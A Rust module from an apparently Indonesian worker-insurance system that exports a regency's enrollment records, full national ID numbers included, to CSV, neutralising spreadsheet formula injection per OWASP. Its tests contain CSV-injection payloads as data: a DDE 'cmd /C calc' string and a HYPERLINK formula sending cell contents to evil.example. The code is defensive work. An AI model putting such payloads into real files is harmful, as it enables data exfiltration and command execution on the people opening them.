//! `jaminan export enrollments`: a regency's coverage in a year as the import's CSV (full NIKs:
//! for the operators of the database only), so that the file imported into an empty database
//! gives the same coverage statistics for that regency and year.
//!
//! Every CSV the server writes for people goes through `SheetWriter`, which makes cells that a
//! spreadsheet would run as formulas inert (OWASP's CSV-injection rule); the import reader takes
//! that back off with `restore`, so an export imports back exactly.
use std::borrow::Cow;
use std::io::{self, BufWriter, Write};

use futures_util::StreamExt;
use sea_orm::{ActiveEnum, DatabaseConnection, FromQueryResult, StreamTrait};

use super::import::file::{COLUMNS, funding_source_name, programs_text};
use super::{check_year, year_bounds};
use crate::areas::Areas;
use crate::db::statement;
use crate::domain::coverage_period::Programs;
use crate::error::{AppError, AppResult};
use crate::i18n::Msg;

/// What makes Excel, LibreOffice or Google Sheets read a cell as a formula (or, for a tab or a
/// carriage return, what they skip before looking for one): OWASP's list.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell, past any quotes it starts with, starts like a formula.
fn formula_behind_quotes(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// The cell as a spreadsheet will show it without running it: a `'` in front of one that starts
/// like a formula (spreadsheets read the rest as text). A cell that already has quotes before
/// such a character gets one more, so that `restore` can always take exactly one off: "'-x" (a
/// name stored with its quote) is written "''-x" and read back "'-x".
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if formula_behind_quotes(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// The cell `neutralise` was given: the import's way back.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_behind_quotes(cell) => rest,
        _ => cell,
    }
}

/// A CSV file for people (`,`-separated, `\n`-terminated): every cell neutralised, and a
/// neutralised cell always in double quotes (OWASP), like one holding a delimiter (`,`, or the
/// `;` of spreadsheets set to Indonesian), a quote or a line break.
pub struct SheetWriter<W: Write> {
    out: BufWriter<W>,
    line: String,
}

impl<W: Write> SheetWriter<W> {
    pub fn new(out: W) -> Self {
        SheetWriter { out: BufWriter::with_capacity(1 << 16, out), line: String::new() }
    }

    pub fn write_row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) -> io::Result<()> {
        self.line.clear();
        for (n, cell) in cells.into_iter().enumerate() {
            if n > 0 {
                self.line.push(',');
            }
            let inert = neutralise(cell);
            let quoted = matches!(inert, Cow::Owned(_)) || inert.contains([',', ';', '"', '\n', '\r']);
            if quoted {
                self.line.push('"');
                self.line.push_str(&inert.replace('"', "\"\""));
                self.line.push('"');
            } else {
                self.line.push_str(&inert);
            }
        }
        self.line.push('\n');
        self.out.write_all(self.line.as_bytes())
    }

    pub fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }
}

#[derive(FromQueryResult)]
struct ExportRow {
    nik: String,
    full_name: String,
    occupation: crate::domain::types::Occupation,
    district_code: Option<String>,
    starts_on: chrono::NaiveDate,
    ends_on: Option<chrono::NaiveDate>,
    funding_source: crate::domain::types::FundingSource,
    programs: String,
    declared_monthly_income: i64,
    membership_number: Option<String>,
}

/// Writes every coverage period paid by `regency_code` that overlaps `year`, oldest worker
/// first; returns how many rows.
pub async fn enrollments(
    db: &DatabaseConnection,
    areas: &Areas,
    regency_code: &str,
    year: i32,
    out: impl Write,
) -> AppResult<u64> {
    let regency = areas.regency(regency_code).ok_or_else(|| AppError::bad_input("regencyCode", Msg::UnknownRegency))?;
    let (first, last) = year_bounds(check_year("year", year)?);
    let sql = "SELECT w.nik, w.full_name, w.occupation, w.district_code, c.starts_on, c.ends_on, c.funding_source, \
               c.programs, c.declared_monthly_income, w.membership_number \
               FROM coverage c JOIN worker w ON w.id = c.worker_id \
               WHERE c.regency_code = ? AND c.starts_on <= ? AND (c.ends_on IS NULL OR c.ends_on >= ?) \
               ORDER BY w.id, c.starts_on";
    let query = statement(db.get_database_backend(), sql, vec![regency.code.clone().into(), last.into(), first.into()]);
    let mut csv = SheetWriter::new(out);
    csv.write_row(COLUMNS).map_err(write_error)?;
    let mut rows = db.stream_raw(query).await?;
    let mut written = 0;
    while let Some(row) = rows.next().await {
        let row = ExportRow::from_query_result(&row?, "")?;
        let ends_on = row.ends_on.map(|d| d.to_string()).unwrap_or_default();
        csv.write_row([
            row.nik.as_str(),
            row.full_name.as_str(),
            row.occupation.to_value().as_str(),
            row.district_code.as_deref().unwrap_or_default(),
            row.starts_on.to_string().as_str(),
            ends_on.as_str(),
            funding_source_name(row.funding_source).as_str(),
            programs_text(Programs::from_column(&row.programs)).as_str(),
            row.declared_monthly_income.to_string().as_str(),
            row.membership_number.as_deref().unwrap_or_default(),
        ])
        .map_err(write_error)?;
        written += 1;
    }
    csv.flush().map_err(write_error)?;
    Ok(written)
}

fn write_error(err: io::Error) -> AppError {
    AppError::Internal(format!("export: {err}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_made_inert_and_restored_exactly() {
        for (stored, written) in [
            ("=SUM(1+1)", "'=SUM(1+1)"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-Budi", "'-Budi"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'-x", "''-x"),
            ("''=x", "'''=x"),
            ("'Aisyah", "'Aisyah"),
            ("Budi-Santoso", "Budi-Santoso"),
            ("'", "'"),
            ("", ""),
        ] {
            assert_eq!(neutralise(stored), written, "{stored:?}");
            assert_eq!(restore(written), stored, "{written:?}");
        }
    }

    #[test]
    fn neutralised_cells_are_quoted() {
        let formula = r#"=HYPERLINK("http://evil.example/?x="&A2,"klik")"#;
        let mut out = Vec::new();
        let mut sheet = SheetWriter::new(&mut out);
        sheet.write_row(["1", formula, "a,b", "a;b", "plain", ""]).unwrap();
        sheet.flush().unwrap();
        drop(sheet);
        let text = String::from_utf8(out).unwrap();
        assert_eq!(text, "1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"klik\"\")\",\"a,b\",\"a;b\",plain,\n");
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!((restore(&record[1]), &record[2], &record[5]), (formula, "a,b", ""));
    }
}
